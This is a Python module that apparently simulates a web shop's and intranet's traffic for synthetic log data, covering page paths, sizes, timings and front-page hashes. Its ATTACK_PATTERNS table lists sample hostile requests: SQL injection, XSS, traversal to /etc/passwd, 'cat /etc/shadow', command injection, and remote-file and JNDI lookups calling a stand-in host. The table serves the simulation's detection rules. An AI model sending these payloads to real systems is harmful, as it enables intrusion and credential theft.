"""The shop and the intranet: their pages, the paths their software has, and what the shop's front page looks like."""

from __future__ import annotations

from hashlib import sha256

from numpy.random import Generator

from training.simulate.names import FORMS, TOPICS
from training.simulate.randomness import pick
from training.simulate.world import World

FRONT_SIZE = 48_200
"""Bytes of the shop's front page."""
REPORT = "/report/export"
"""The dearest page: a report made anew for whoever asks."""
STATIC = ("/assets/shop.css", "/assets/shop.js", "/assets/logo.svg", "/assets/banner.webp")
ATTACK_PATTERNS: tuple[tuple[str, str, str, str], ...] = (
    ("sqli", "GET", "/item", "id=7%20union%20select%20null,null--"),
    ("sqli", "GET", "/search", "q=%27%20or%201=1--"),
    ("xss", "GET", "/search", "q=%3Cscript%3Ealert(1)%3C/script%3E"),
    ("lfi", "GET", "/download", "file=../../../../etc/passwd"),
    ("traversal", "GET", "/static/..%2f..%2f..%2fetc/passwd", ""),
    ("rfi", "GET", "/index.php", "page=http://203.0.113.9/x.txt"),
    ("rce", "GET", "/ping", "host=127.0.0.1;id"),
    ("shell", "POST", "/api/v1/import", "cmd=cat%20/etc/shadow"),
    ("php", "POST", "/upload.php", ""),
    ("java", "POST", "/invoker/JMXInvokerServlet", ""),
    ("jndi", "GET", "/", "x=$%7Bjndi:ldap://203.0.113.9/a%7D"),
    ("ssti", "GET", "/profile", "name=%7B%7B7*7%7D%7D"),
    ("session", "GET", "/login", "PHPSESSID=fixed"),
    ("protocol", "GET", "/", ""),
    ("scanner", "GET", "/wp-login.php", ""),
    ("body", "POST", "/xmlrpc.php", ""),
)
"""Family of a rule, and a request that matches it."""


def script(world: World) -> str:
    """Give the extension of the shop's scripts."""
    return ".aspx" if world.estate.shop.server == "iis" else ".php"


def upload_path(world: World) -> str:
    """Give where the shop's editor takes files."""
    return "/umbraco/backoffice/media/PostAddFile" if script(world) == ".aspx" else "/wp-admin/async-upload.php"


def template_path(world: World) -> str:
    """Give where the shop's templates are edited."""
    return "/umbraco/backoffice/template/PostSave" if script(world) == ".aspx" else "/wp-admin/theme-editor.php"


def login_path(world: World) -> str:
    """Give where editors sign in."""
    return "/umbraco/login" if script(world) == ".aspx" else "/wp-login.php"


def media_folder(world: World, at: int) -> str:
    """Give the folder uploads land in at a moment."""
    if script(world) == ".aspx":
        return "/images"
    date = world.config.date_of(world.day_of(at))
    return f"/wp-content/uploads/{date.year}/{date.month:02d}"


def page(rng: Generator) -> tuple[str, str]:
    """Draw a page people look at: path and query."""
    u = rng.random()
    if u < 0.2:
        return "/", ""
    if u < 0.62:
        return f"/product/{int(rng.zipf(1.4)) % 600}", ""
    if u < 0.82:
        return f"/category/{pick(rng, TOPICS[:24]).lower()}", f"page={int(rng.geometric(0.6))}"
    if u < 0.92:
        return "/search", f"q={pick(rng, TOPICS).lower()}"
    return f"/info/{pick(rng, FORMS).lower()}", ""


def page_size(path: str) -> int:
    """Give the size of a page, always the same for its path."""
    if path == "/":
        return FRONT_SIZE
    return 9_000 + sum((i + 3) * ord(c) for i, c in enumerate(path)) % 31_000


def page_time(rng: Generator, path: str) -> float:
    """Draw the time a page takes, ms; searches and reports are dear."""
    middle = 7.9 if path == REPORT else 5.6 if path == "/search" else 4.2
    return float(rng.lognormal(middle, 0.35))


def publishing_days(world: World) -> list[int]:
    """List the days on which the front page is published anew, at nine in the morning; two or so a week."""
    rng = world.stream("publishing")
    days = [d for d in range(world.config.days) if world.config.date_of(d).weekday() < 5]
    return [d for d in days if rng.random() < 0.4]


def front_hash(world: World, target: str, at: int, size: int) -> str:
    """Give the hash of a site's front page at a moment: it changes when the page is published, or is made another."""
    day = world.day_of(at)
    version = sum(d <= day for d in publishing_days(world)) if "shop" in target else 0
    return sha256(f"{world.config.seed} {target} {version} {size}".encode()).hexdigest()[:32]
